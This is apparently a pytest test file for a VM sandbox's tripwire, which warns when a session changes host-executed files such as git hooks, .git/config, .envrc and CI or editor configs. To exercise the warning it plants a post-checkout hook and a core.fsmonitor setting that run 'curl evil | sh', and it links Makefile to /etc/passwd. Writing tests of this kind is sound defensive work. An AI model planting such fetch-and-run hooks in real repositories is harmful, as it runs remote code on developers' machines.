"""The tripwire names files the host would run that a session in the VM changed."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from agentbox import tripwire
from tests.conftest import FakeLima, needs_bwrap, run_cli, write

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]


@pytest.fixture
def repo(project: Path, limactl: FakeLima) -> Path:
    needs_bwrap()
    subprocess.run([*GIT, "init", "-q", str(project)], check=True)
    write(project / "agentbox.yml", "")
    assert run_cli("start", cwd=project).exit_code == 0
    return project


def session(project: Path, script: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "agentbox", "shell", "--", "sh", "-c", script],
        cwd=project, capture_output=True, text=True, timeout=120,
    )


def test_agent_writes_are_named_after_the_session(repo: Path) -> None:
    result = session(
        repo,
        "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout"
        " && git config core.fsmonitor 'curl evil | sh' && echo 'export X=1' > .envrc",
    )
    assert result.returncode == 0, result.stderr
    err = result.stderr
    assert "WARNING: the session changed files that your host runs" in err
    assert "added     .git/hooks/post-checkout" in err
    assert "modified  .git/config" in err
    assert "+\tfsmonitor = curl evil | sh" in err
    assert "added     .envrc" in err
    assert "+curl evil | sh" in err

    audit = run_cli("audit", cwd=repo)
    assert audit.exit_code == 1
    assert ".git/hooks/post-checkout" in audit.stderr and ".envrc" in audit.stderr


def test_a_quiet_session_prints_no_warning(repo: Path) -> None:
    result = session(repo, "echo hello > notes.txt")
    assert result.returncode == 0
    assert "WARNING" not in result.stderr
    audit = run_cli("audit", cwd=repo)
    assert audit.exit_code == 0
    assert "No changes" in audit.stderr


@pytest.mark.parametrize(
    "path",
    [".vscode/tasks.json", ".vscode/settings.json", ".husky/pre-commit", ".pre-commit-config.yaml",
     "package.json", "Makefile", ".github/workflows/ci.yml"],
)
def test_each_watched_path_is_noticed(project: Path, path: str) -> None:
    before = tripwire.fingerprint(project)
    write(project / path, "changed\n")
    assert (path, "added") in tripwire.changes(before, tripwire.fingerprint(project))


def test_fifo_and_symlink_do_not_hang_or_follow(project: Path) -> None:
    before = tripwire.fingerprint(project)
    os.mkfifo(project / ".envrc")
    (project / "Makefile").symlink_to("/etc/passwd")
    started = time.monotonic()
    after = tripwire.fingerprint(project)
    assert time.monotonic() - started < 1
    assert after["Makefile"].digest == "link:/etc/passwd"
    assert {label for label, _ in tripwire.changes(before, after)} == {".envrc", "Makefile"}


def test_fingerprint_of_a_large_repository_is_fast(project: Path) -> None:
    subprocess.run([*GIT, "init", "-q", str(project)], check=True)
    for d in range(100):
        folder = project / "src" / f"d{d}"
        folder.mkdir(parents=True)
        for f in range(500):
            (folder / f"f{f}.txt").write_bytes(b"x")
    write(project / "package.json", '{"scripts": {"test": "jest"}}\n')
    timings = []
    for _ in range(5):
        started = time.perf_counter()
        tripwire.fingerprint(project)
        timings.append(time.perf_counter() - started)
    assert sorted(timings)[2] < 0.05


def test_protect_git_hooks_mounts_them_read_only_and_commits_still_work(project: Path, limactl: FakeLima) -> None:
    needs_bwrap()
    subprocess.run([*GIT, "init", "-q", str(project)], check=True)
    write(project / "agentbox.yml", "vm:\n  protectGitHooks: true\n")
    assert run_cli("start", cwd=project).exit_code == 0
    assert f"location: {project}/.git/hooks" in limactl.lima_yaml("agentbox-myproject")
    result = session(project, "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git log --oneline | wc -l")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "1"
    write_hook = session(project, "echo evil > .git/hooks/post-checkout")
    assert write_hook.returncode != 0
    assert not (project / ".git" / "hooks" / "post-checkout").exists()
